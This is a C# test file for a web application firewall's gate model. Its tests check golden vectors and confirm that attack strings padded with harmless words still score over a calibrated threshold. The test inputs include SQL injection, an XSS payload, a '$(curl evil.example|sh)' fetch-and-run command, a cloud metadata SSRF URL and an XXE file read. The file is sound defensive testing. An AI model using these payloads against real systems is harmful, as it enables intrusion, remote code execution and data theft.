using System.Text;
using System.Text.Json;
using WafOperator.Fixtures;

namespace WafOperator.Features.Tests;

public sealed class ReleasedGateTests
{
    [Fact]
    public void Logit_EveryReleasedGate_ReproducesItsGoldenVectors()
    {
        var paths = ReleasedPackages.Paths("gate").ToList();
        Assert.NotEmpty(paths);
        Assert.All(paths, path =>
        {
            var files = ReleasedPackages.Files(path);
            var gate = GateModel.Read(files["gate.bin"], out var error);
            Assert.Null(error);
            var buffer = new byte[ValueNormalizer.ValueBytesMax];
            Assert.All(ReleasedPackages.Golden(files), golden =>
            {
                var length = ValueNormalizer.Normalize(golden.Value, buffer, out var flags);
                Assert.Equal(golden.Logit, gate!.Logit(buffer.AsSpan(0, length), flags));
            });
        });
    }

    /// <summary>Ordinary words beside an attack, of any length and at any place, buy it nothing.</summary>
    [Theory]
    [InlineData("1' UNION SELECT username, password FROM users-- -")]
    [InlineData("' or 1=1-- ")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("$(curl evil.example|sh)")]
    [InlineData("http://169.254.169.254/latest/meta-data/")]
    [InlineData("<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>")]
    public void Logit_OfAnAttackBesideOrdinaryWords_StaysOverTheThresholdOfTheNewestRelease(string attack)
    {
        var files = ReleasedPackages.Files(ReleasedPackages.Paths("gate").Order(StringComparer.Ordinal).Last());
        var gate = GateModel.Read(files["gate.bin"], out _)!;
        using var manifest = JsonDocument.Parse(files["manifest.json"]);
        var threshold = ThresholdOf(manifest.RootElement);
        foreach (var length in new[] { 0, 60, 160, 1_000, 10_000, 100_000 })
        {
            string[] values = [$"{attack} {Words(length)}", $"{Words(length)} {attack}", Around(attack, length)];
            foreach (var value in values)
            {
                var buffer = new byte[value.Length];
                var written = ValueNormalizer.Normalize(Encoding.UTF8.GetBytes(value), buffer, out var flags);
                var logit = gate.Logit(buffer.AsSpan(0, written), flags);
                Assert.True(logit >= threshold, $"{length} bytes: {logit} is under {threshold}");
            }
        }
    }

    private static string Around(string attack, int length) => $"{Words(length / 2)} {attack} {Words(length / 2)}";

    private static string Words(int length) =>
        string.Concat(Enumerable.Repeat("the garden was full of apples and people ", (length / 41) + 1))[..length];

    /// <summary>The logit that 0.5 % of held-out harmless requests reach.</summary>
    private static double ThresholdOf(JsonElement manifest)
    {
        var probability = manifest.GetProperty("thresholds").GetProperty("fpr_0.005").GetDouble();
        var calibration = manifest.GetProperty("calibration");
        return (Math.Log(probability / (1 - probability)) - calibration.GetProperty("intercept").GetDouble())
            / calibration.GetProperty("slope").GetDouble();
    }
}
